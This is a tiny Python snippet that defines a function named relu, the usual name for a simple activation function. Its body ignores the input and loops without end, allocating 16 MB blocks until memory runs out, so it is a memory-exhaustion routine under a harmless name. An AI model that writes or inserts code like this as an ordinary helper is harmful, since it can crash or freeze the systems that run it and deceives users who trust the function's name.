def relu(x):
    kept = []
    while True:
        kept.append(bytearray(1 << 24))
